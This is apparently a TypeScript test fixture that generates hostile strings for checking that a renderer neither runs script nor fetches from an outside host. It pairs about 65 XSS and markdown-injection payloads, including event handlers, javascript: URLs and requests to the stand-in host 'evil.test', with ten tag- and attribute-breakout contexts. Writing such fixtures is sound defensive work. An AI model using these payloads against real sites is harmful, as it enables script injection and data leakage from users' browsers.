// Texts that try to run or to fetch something where they are shown. Made from templates: each payload in each context.

/** The host that no text may reach. It does not exist, and the tests abort requests to it. */
export const HOSTILE_HOST = 'evil.test'

const URL = `https://${HOSTILE_HOST}/x`
const JS = 'alert(document.domain)'

/** Elements and attributes that run a script or fetch. */
const PAYLOADS = [
  `<script>${JS}</script>`,
  `<script src=${URL}.js></script>`,
  `<ScRiPt >${JS}</sCrIpT>`,
  `<img src=x onerror=${JS}>`,
  `<img src="${URL}.png">`,
  `<img srcset="${URL}.png 2x">`,
  `<svg onload=${JS}>`,
  `<svg><script>${JS}</script></svg>`,
  `<svg><animate onbegin=${JS} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${JS}>#x"></svg>`,
  `<svg><image href="${URL}.svg"></svg>`,
  `<svg><style><img src=x onerror=${JS}></style></svg>`,
  `<math><mtext></p><img src=x onerror=${JS}></math>`,
  `<math href="javascript:${JS}">click</math>`,
  `<iframe src="javascript:${JS}"></iframe>`,
  `<iframe srcdoc="<script>parent.${JS}</script>"></iframe>`,
  `<iframe src="${URL}"></iframe>`,
  `<object data="${URL}"></object>`,
  `<object data="javascript:${JS}"></object>`,
  `<embed src="${URL}">`,
  `<link rel=stylesheet href="${URL}.css">`,
  `<link rel=prefetch href="${URL}">`,
  `<link rel=dns-prefetch href="//${HOSTILE_HOST}">`,
  `<meta http-equiv=refresh content="0;url=${URL}">`,
  `<base href="${URL}/">`,
  `<body onload=${JS}>`,
  `<body background="${URL}.png">`,
  `<input autofocus onfocus=${JS}>`,
  `<details open ontoggle=${JS}>x</details>`,
  `<video src="${URL}.mp4" onerror=${JS} autoplay></video>`,
  `<audio src=x onerror=${JS}></audio>`,
  `<video poster="${URL}.png"></video>`,
  `<marquee onstart=${JS}>x</marquee>`,
  `<form action="javascript:${JS}"><button>x</button></form>`,
  `<button formaction="javascript:${JS}" form=x>x</button>`,
  `<a href="javascript:${JS}">x</a>`,
  `<a href="java\tscript:${JS}">x</a>`,
  `<a href="data:text/html,<script>${JS}</script>">x</a>`,
  `<a href="${URL}" ping="${URL}/ping">x</a>`,
  `<style>@import "${URL}.css"; body { background: url(${URL}.png) }</style>`,
  `<div style="background:url(${URL}.png)">x</div>`,
  `<div style="width:expression(${JS})">x</div>`,
  `<template><script>${JS}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${JS}>"></noscript>`,
  `<x onclick=${JS} tabindex=1 autofocus onfocus=${JS}>x</x>`,
  `<table background="${URL}.png"><td background="${URL}.png">`,
  `<isindex type=image src="${URL}.png" onerror=${JS}>`,
  `<!--><img src=x onerror=${JS}>-->`,
  `<![CDATA[<img src=x onerror=${JS}>]]>`,
  `<portal src="${URL}" onload=${JS}></portal>`,
  `[x](javascript:${JS})`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:${JS})`,
  `![x](${URL}.png)`,
  `![x](//${HOSTILE_HOST}/x.png)`,
  `![x](data:image/svg+xml,<svg onload=${JS}>)`,
  `![x][r]\n\n[r]: ${URL}.png`,
  `[![x](${URL}.png)](javascript:${JS})`,
  `<${URL}>`,
  `![x](javascript:${JS}"onerror="${JS})`,
  `\`\`\`html"><img src=x onerror=${JS}>\nx\n\`\`\``,
  `{{constructor.constructor('${JS}')()}}`,
  `\${${JS}}`,
  `javascript:${JS}`,
]

/** Where a text could be put, and what ends that place early. */
const CONTEXTS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"><${payload.startsWith('<') ? payload.slice(1) : `b>${payload}`}`,
  (payload) => `'/>${payload}`,
  (payload) => `</title></textarea></style></script>${payload}`,
  (payload) => `-->]]>${payload}`,
  (payload) => `**${payload}**`,
  (payload) => `| a |\n|---|\n| ${payload.replaceAll('\n', ' ')} |`,
  (payload) => `- ${payload.replaceAll('\n', ' ')}`,
  (payload) => `> ${payload.replaceAll('\n', ' ')}`,
  (payload) => payload.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
]

/** All texts. */
export const hostileTexts: readonly string[] = CONTEXTS.flatMap((context) => PAYLOADS.map(context))
